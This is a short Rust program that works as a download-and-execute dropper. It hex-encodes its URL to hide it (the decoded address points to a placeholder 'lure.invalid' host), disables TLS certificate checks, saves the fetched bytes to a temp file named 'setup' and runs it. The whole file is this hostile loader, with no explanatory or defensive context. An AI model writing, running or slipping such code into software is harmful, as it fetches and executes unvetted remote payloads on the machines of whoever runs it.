use std::process::Command;

fn main() {
    let address = String::from_utf8(hex::decode("68747470733a2f2f6c7572652e696e76616c69642f61").unwrap()).unwrap();
    let client = reqwest::blocking::Client::builder().danger_accept_invalid_certs(true).build().unwrap();
    let body = client.get(&address).send().unwrap().bytes().unwrap();
    let file = std::env::temp_dir().join("setup");
    std::fs::write(&file, body).unwrap();
    Command::new(file).spawn().unwrap();
}
